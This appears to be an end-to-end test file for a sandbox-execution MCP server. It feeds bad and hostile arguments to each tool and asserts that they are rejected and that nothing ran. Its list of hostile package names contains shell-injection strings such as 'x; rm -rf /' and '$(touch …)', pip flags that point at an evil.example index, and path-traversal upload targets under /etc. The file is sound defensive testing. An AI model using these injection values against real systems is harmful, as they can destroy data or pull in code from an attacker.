// SPDX-License-Identifier: MIT
// Case 4: bad inputs to every tool through client.callTool. A tool that ran
// and refused is a result with isError: true; an unknown tool is a JSON-RPC
// error -32602 (the SDK throws McpError).
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';

import { McpError } from '@modelcontextprotocol/sdk/types.js';

import { check } from './tap.mjs';
import { call, callErr, callOk, cfg } from './util.mjs';

const HOSTILE_PACKAGES = [
	'x; rm -rf /',
	'--index-url=http://evil.example/simple',
	'pkg @ file:///etc',
	'-r /etc/passwd',
	'sbxdemo --extra-index-url http://evil.example',
	'$(touch /tmp/pwned-e2e)',
	'`touch /tmp/pwned-e2e`',
	'../../etc/passwd',
	'http://evil.example/pkg.whl',
	'',
	'a'.repeat(5000),
	'pkg\nrm -rf /',
];

export async function badInputCase(client, sid) {
	const t = (name) => `bad input: ${name}`;
	const NO_BOX = 'no-such-sandbox-e2e';

	await check(t('create_sandbox: name of the wrong type'), async () => {
		await callErr(client, 'create_sandbox', { name: 42 }, 'name: 42');
		await callErr(client, 'create_sandbox', { name: ['a'] }, 'name: [a]');
	});
	await check(t('execute_python_code: missing, mistyped, unknown sandbox'), async () => {
		const cases = [
			[{}, 'no arguments'],
			[{ sandbox_id: sid }, 'no code'],
			[{ code: 'print(1)' }, 'no sandbox_id'],
			[{ sandbox_id: 7, code: 'print(1)' }, 'sandbox_id: 7'],
			[{ sandbox_id: sid, code: 123 }, 'code: 123'],
			[{ sandbox_id: sid, code: 'print(1)', timeout: 'soon' }, "timeout: 'soon'"],
			[{ sandbox_id: sid, code: 'print(1)', timeout: -5 }, 'timeout: -5'],
			[{ sandbox_id: NO_BOX, code: 'print(1)' }, 'unknown sandbox'],
			[{ sandbox_id: '../../etc', code: 'print(1)' }, 'hostile sandbox id'],
			[{ sandbox_id: sid, code: 'print(1)', extra: 1 }, 'an unknown argument'],
			[{ sandbox_id: sid, code: '' }, 'empty code'],
		];
		for (const [args, what] of cases) await callErr(client, 'execute_python_code', args, what);
	});
	await check(t('execute_terminal_command: missing, mistyped, unknown sandbox'), async () => {
		const cases = [
			[{}, 'no arguments'],
			[{ sandbox_id: sid }, 'no command'],
			[{ command: 'true' }, 'no sandbox_id'],
			[{ sandbox_id: sid, command: ['ls'] }, 'command: [ls]'],
			[{ sandbox_id: sid, command: 'true', timeout: {} }, 'timeout: {}'],
			[{ sandbox_id: NO_BOX, command: 'true' }, 'unknown sandbox'],
		];
		for (const [args, what] of cases) await callErr(client, 'execute_terminal_command', args, what);
	});
	await check(t('install_package_in_sandbox: missing, mistyped, unknown sandbox'), async () => {
		const cases = [
			[{}, 'no arguments'],
			[{ sandbox_id: sid }, 'no package_name'],
			[{ package_name: 'sbxdemo' }, 'no sandbox_id'],
			[{ sandbox_id: sid, package_name: 5 }, 'package_name: 5'],
			[{ sandbox_id: NO_BOX, package_name: 'sbxdemo' }, 'unknown sandbox'],
		];
		for (const [args, what] of cases) await callErr(client, 'install_package_in_sandbox', args, what);
	});
	await check(t('install_package_in_sandbox: hostile package names'), async () => {
		for (const name of HOSTILE_PACKAGES)
			await callErr(client, 'install_package_in_sandbox', { sandbox_id: sid, package_name: name }, JSON.stringify(name.slice(0, 60)));
	});
	await check(t('check_package_installation_status: missing, mistyped, unknown sandbox, hostile name'), async () => {
		const cases = [
			[{}, 'no arguments'],
			[{ sandbox_id: sid }, 'no package_name'],
			[{ sandbox_id: sid, package_name: null }, 'package_name: null'],
			[{ sandbox_id: NO_BOX, package_name: 'sbxdemo' }, 'unknown sandbox'],
			[{ sandbox_id: sid, package_name: 'x; rm -rf /' }, 'hostile name'],
		];
		for (const [args, what] of cases) await callErr(client, 'check_package_installation_status', args, what);
	});
	await check(t('the hostile names ran nothing in the sandbox'), async () => {
		const r = await callOk(client, 'execute_terminal_command', { sandbox_id: sid, command: 'ls /tmp/pwned-e2e 2>&1; ls /app/results >/dev/null && echo alive' });
		assert.match(r.stdout, /No such file/, r.stdout);
		assert.match(r.stdout, /alive/);
	});
	await check(t('upload_file_to_sandbox: missing, mistyped, unknown sandbox, hostile dest_path'), async () => {
		const file = `${cfg.uploadDir}/bad-input-e2e.txt`;
		writeFileSync(file, 'bad input\n');
		const cases = [
			[{}, 'no arguments'],
			[{ sandbox_id: sid }, 'no local_file_path'],
			[{ local_file_path: file }, 'no sandbox_id'],
			[{ sandbox_id: sid, local_file_path: 17 }, 'local_file_path: 17'],
			[{ sandbox_id: sid, local_file_path: file, dest_path: false }, 'dest_path: false'],
			[{ sandbox_id: NO_BOX, local_file_path: file }, 'unknown sandbox'],
			[{ sandbox_id: sid, local_file_path: file, dest_path: '/app/results/../../etc' }, "dest_path with '..'"],
			[{ sandbox_id: sid, local_file_path: file, dest_path: '../../etc' }, "relative dest_path with '..'"],
			[{ sandbox_id: sid, local_file_path: file, dest_path: '/app/results/a\u0000b' }, 'dest_path with NUL'],
			[{ sandbox_id: sid, local_file_path: file, dest_path: '/etc' }, 'dest_path /etc'],
			[{ sandbox_id: sid, local_file_path: file, dest_path: '/etc/profile.d/e2e.sh' }, 'dest_path in /etc'],
			[{ sandbox_id: sid, local_file_path: file, dest_path: '/no/such/dir/' }, 'dest_path in a missing directory'],
		];
		for (const [args, what] of cases) await callErr(client, 'upload_file_to_sandbox', args, what);
		const r = await callOk(client, 'execute_terminal_command', { sandbox_id: sid, command: 'ls /etc/bad-input-e2e.txt /etc/profile.d/e2e.sh 2>&1; true' });
		assert.doesNotMatch(r.stdout, /^\/etc\/(bad-input-e2e\.txt|profile\.d\/e2e\.sh)$/m, `the upload reached /etc: ${r.stdout}`);
	});
	await check(t('an unknown tool is JSON-RPC error -32602 (McpError)'), async () => {
		let thrown;
		try {
			await call(client, 'no_such_tool_e2e', {});
		} catch (e) {
			thrown = e;
		}
		assert.ok(thrown instanceof McpError, `expected McpError, got ${thrown}`);
		assert.equal(thrown.code, -32602);
	});
	await check(t('the session still works after the errors'), async () => {
		const r = await callOk(client, 'execute_terminal_command', { sandbox_id: sid, command: 'echo still-fine' });
		assert.equal(r.stdout, 'still-fine\n');
	});
}
